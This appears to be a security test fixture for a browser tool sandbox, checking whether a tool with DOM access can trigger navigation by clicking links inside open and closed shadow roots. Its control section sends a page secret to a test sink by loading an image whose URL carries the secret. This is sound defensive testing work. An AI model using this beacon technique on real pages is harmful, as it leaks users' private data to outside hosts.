//! guest = "tool"
//! promise = "dom-clicks-inside"
//! capabilities = ["dom:read", "dom:write"]
// The link is in the shadow tree of a component, around the place of its content.
await btcp.dom.click("#inopened").catch(() => {});
await btcp.dom.click("#inclosed").catch(() => {});
return "pressed";
// --- page
const frame = document.createElement("iframe");
frame.name = "sinkframe";
document.body.append(frame);
stage.elements().root.insertAdjacentHTML("beforeend", `<x-opened id=opened><span id=inopened>x</span></x-opened><x-closed id=closed><span id=inclosed>x</span></x-closed>`);
for (const [id, mode] of [["opened", "open"], ["closed", "closed"]])
  document.getElementById(id).attachShadow({ mode }).innerHTML = `<a href="${stage.sink}/${id}" target=sinkframe><slot></slot></a>`;
const said = stage.outcome(await stage.tool());
await stage.wait(400);
return said;
// --- control
const picture = new Image();
picture.src = `${stage.sink}/taken?${document.getElementById("secret").textContent}`;
await stage.until(() => picture.complete);
return "sent";
